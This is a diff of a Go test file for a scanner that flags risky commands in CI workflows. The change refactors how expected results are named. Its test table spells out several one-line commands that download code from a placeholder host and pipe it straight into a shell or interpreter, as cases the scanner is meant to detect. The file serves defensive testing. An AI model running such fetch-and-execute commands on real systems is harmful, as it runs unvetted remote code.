@@ -7,6 +7,7 @@ import (
 	"strings"
 	"testing"
 
+	"example.com/rates/security/scanner/script"
 	"example.com/rates/security/tree"
 )
 
@@ -26,7 +27,7 @@ func rulesIn(tb testing.TB, text string) (string, error) {
 }
 
 func TestScripts(t *testing.T) {
-	for script, want := range map[string]string{
+	for text, want := range map[string]string{
 		"make test || true":                  ignoredFailure,
 		"make test || : # known":             ignoredFailure,
 		"make test ||true; make lint":        ignoredFailure,
@@ -40,26 +41,26 @@ func TestScripts(t *testing.T) {
 		"set +x":                             "",
 		"echo set +e":                        "",
 		"# make test || true":                "",
-		"curl -s https://example.com/x | sh": remoteScript,
-		"wget -qO- https://example.com/x | sudo -E bash -s -- -y": remoteScript,
-		"curl https://example.com/x | python3 -":                  remoteScript,
-		"curl https://example.com/x |env bash":                    remoteScript,
-		"source <(curl https://example.com/x)":                    remoteScript,
-		". <(curl https://example.com/x)":                         remoteScript,
-		"sh <( wget -O- https://example.com/x )":                  remoteScript,
-		`eval "$(curl https://example.com/x)"`:                    remoteScript,
-		`bash -c "$(curl -fsSL https://example.com/x)"`:           remoteScript,
+		"curl -s https://example.com/x | sh": script.Remote,
+		"wget -qO- https://example.com/x | sudo -E bash -s -- -y": script.Remote,
+		"curl https://example.com/x | python3 -":                  script.Remote,
+		"curl https://example.com/x |env bash":                    script.Remote,
+		"source <(curl https://example.com/x)":                    script.Remote,
+		". <(curl https://example.com/x)":                         script.Remote,
+		"sh <( wget -O- https://example.com/x )":                  script.Remote,
+		`eval "$(curl https://example.com/x)"`:                    script.Remote,
+		`bash -c "$(curl -fsSL https://example.com/x)"`:           script.Remote,
 		"curl https://example.com/x | shasum":                     "",
 		"curl https://example.com/x | jq .":                       "",
 		"curl -o x https://example.com/x && bash y":               "",
 		"echo curl; echo x | sh":                                  "",
 	} {
-		text := "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          echo first\n          " + script + "\n"
+		workflow := "on: push\njobs:\n  a:\n    steps:\n      - run: |\n          echo first\n          " + text + "\n"
 		if want != "" {
 			want += ":7"
 		}
-		if got, err := rulesIn(t, text); got != want || err != nil {
-			t.Errorf("%s: %q, %v; want %q", script, got, err, want)
+		if got, err := rulesIn(t, workflow); got != want || err != nil {
+			t.Errorf("%s: %q, %v; want %q", text, got, err, want)
 		}
 	}
 }
